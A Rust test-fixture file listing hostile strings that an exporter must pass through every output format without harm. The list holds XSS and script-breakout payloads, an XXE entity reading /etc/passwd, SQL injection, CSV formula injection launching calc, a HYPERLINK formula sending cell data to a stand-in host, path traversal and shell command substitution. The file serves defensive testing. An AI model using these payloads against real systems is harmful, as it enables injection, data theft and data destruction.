//! Texts that break careless writers. Articles come from anywhere: each of these may stand in a title, a quote or a
//! name, and must come out of every format unharmed and without doing anything.

/// A name for each text (for messages) and the text itself.
pub const HOSTILE: &[(&str, &str)] = &[
    // HTML and JavaScript.
    ("script end", "</script><script>window.HACKED = 1</script>"),
    ("script end, odd case", "</ScRiPt ><svg/onload=window.HACKED=2>"),
    ("comment opener", "<!-- <script> the rest of the page"),
    ("comment and script", "<!--<script>--></script>"),
    ("image handler", "<img src=x onerror=window.HACKED=3>"),
    ("attribute breakout", "\" onmouseover=\"window.HACKED=4\" x=\""),
    ("attribute breakout, single", "' autofocus onfocus='window.HACKED=5"),
    ("javascript address", "javascript:window.HACKED=6"),
    ("data address", "data:text/html,<script>window.HACKED=7</script>"),
    ("template literal", "`${window.HACKED=8}`"),
    ("mustache", "{{constructor.constructor('window.HACKED=9')()}}"),
    ("style end", "</style><body hidden>"),
    ("title end", "</title></head><plaintext>"),
    ("entities", "&lt;b&gt; &amp;amp; &#60;script&#62; &quot;"),
    ("prototype key", "__proto__"),
    // XML and QGIS expressions.
    ("CDATA end", "]]><evil/><![CDATA["),
    ("entity declaration", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"),
    ("QGIS expression", "[% eval('1/0') %] \"id\" = 'x' OR TRUE"),
    ("XML control characters", "a\u{1}b\u{8}c\u{b}d\u{c}e\u{1b}[31mf\u{7f}g"),
    ("noncharacters", "a\u{fffe}b\u{ffff}c\u{fdd0}d"),
    // SQL.
    ("SQL quote", "Robert'); DROP TABLE events;--"),
    ("SQL double quote", "\"; DELETE FROM gpkg_contents; --"),
    // Spreadsheets.
    ("formula equals", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"),
    ("formula plus", "+1+cmd|' /C calc'!A0"),
    ("formula minus", "-2+3+cmd|' /C calc'!A0"),
    ("formula at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula behind tab", "\t=1+1"),
    ("formula behind carriage return", "\r=1+1"),
    ("formula, quoted already", "'=1+1"),
    ("formula, full width", "\u{ff1d}1+1"),
    ("CSV separators", "a,b;c\t\"d\"\r\n\"e\nf"),
    // JSON and lines.
    ("JSON quotes", "\\\" , \"start\": null, \"x\": \"\\"),
    ("backslashes", "\\u0000 \\n \\x00 C:\\new\\table \\"),
    ("line separators", "one\u{2028}two\u{2029}three\u{85}four"),
    ("record separator", "\u{1e}{\"type\":\"Feature\"}\n\u{1e}"),
    ("newlines", "one\ntwo\r\nthree\rfour"),
    // Unicode.
    ("NUL", "before\u{0}after"),
    ("byte order mark", "\u{feff}Goma\u{feff}"),
    ("right-to-left override", "Goma \u{202e}gpj.exe\u{202c} \u{2067}isolated"),
    ("right-to-left text", "سقطت المدينة \u{200f}(M23)\u{200f} אתמול"),
    ("zero widths", "Go\u{200b}m\u{200d}a\u{2060}\u{ad}"),
    (
        "combining pile",
        "Z\u{335}\u{322}\u{327}\u{336}\u{35c}\u{341}\u{354}a\u{310}\u{352}\u{357}l\u{350}\u{308}\u{301}g\u{342}o",
    ),
    ("emoji", "👨‍👩‍👧‍👦 🇨🇩 💥🏴󠁧󠁢󠁥󠁮󠁧󠁿"),
    ("beyond the basic plane", "𝔊𝔬𝔪𝔞 𐍈 𠮷 \u{10ffff}"),
    ("private use", "\u{e000}\u{f8ff}\u{f0000}"),
    ("looks empty", "\u{3000}\u{a0}\u{2003}"),
    ("empty", ""),
    // Paths, printf, and the rest.
    ("path", "../../../../etc/passwd"),
    ("printf", "%s%s%n %d ${HOME} $(touch /tmp/hacked) `id`"),
    ("number", "1e999"),
    ("date", "2024-02"),
    ("null word", "null"),
];

/// A text of 200,000 characters with quotes, angle brackets and accents in it.
#[must_use]
pub fn very_long() -> String {
    "<é\"'&>\u{2028}".chars().cycle().take(200_000).collect()
}
